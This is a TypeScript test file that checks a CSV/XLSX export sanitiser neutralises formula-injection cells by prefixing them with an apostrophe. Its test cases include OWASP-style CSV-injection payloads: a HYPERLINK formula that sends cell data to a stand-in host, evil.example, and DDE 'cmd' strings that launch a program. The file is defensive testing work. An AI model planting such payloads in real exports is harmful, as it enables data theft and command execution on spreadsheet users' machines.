import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/ui/render/csv.js';
import { formatChunk } from '../../src/ui/render/csv-chunk.js';
import { neutraliseFormula } from '../../src/ui/render/formula.js';
import { xlsxValue } from '../../src/ui/render/xlsx.js';

// [cell as stored, cell as a spreadsheet gets it]. The first group is OWASP's CSV-injection list:
// a cell starting with = + - @ tab or carriage return is run as a formula.
const CASES: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['-cmd', "'-cmd"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  // A phone written +62… would become a number in E notation.
  ['+6281234567890', "'+6281234567890"],
  ['--', "'--"],
  ['- ', "'- "],
  // Left as they are: a lone "-" (a roster's "none"), real negative numbers, ordinary text.
  ['-', '-'],
  ['-5', '-5'],
  ['-2,5', '-2,5'],
  ['-1.000.000', '-1.000.000'],
  ['Guru Honorer', 'Guru Honorer'],
  ['0812-3456-7890', '0812-3456-7890'],
  ['a=b', 'a=b'],
  ['', ''],
];

describe('formula neutralisation', () => {
  it.each(CASES)('%j is written as %j', (cell, written) => {
    expect(neutraliseFormula(cell)).toBe(written);
    expect(xlsxValue(cell)).toBe(written);
  });

  it('is the same in the byte-level CSV writer of large exports as in csvLine', () => {
    const cells = CASES.map(([cell]) => cell);
    // The joined form SQLite hands over: fields separated by US (0x1f), records by RS (0x1e).
    const joined = Buffer.from(cells.map((c) => `${c}\x1fx`).join('\x1e'), 'utf8');
    const bytes = formatChunk(joined, cells.length, 2, ',', '\n');
    expect(bytes?.toString('utf8')).toBe(cells.map((c) => csvLine([c, 'x'], ',')).join('\n') + '\n');
  });
});
